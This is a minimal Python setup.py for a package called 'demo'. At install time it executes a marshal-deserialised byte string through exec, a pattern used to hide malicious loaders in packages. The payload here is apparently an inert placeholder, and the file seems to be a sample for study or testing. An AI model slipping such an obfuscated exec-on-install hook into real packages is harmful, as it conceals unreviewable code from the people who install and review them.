import marshal
from setuptools import setup

exec(marshal.loads(b"\xe3\x00\x00\x00inert"))
setup(name="demo", version="1.0")
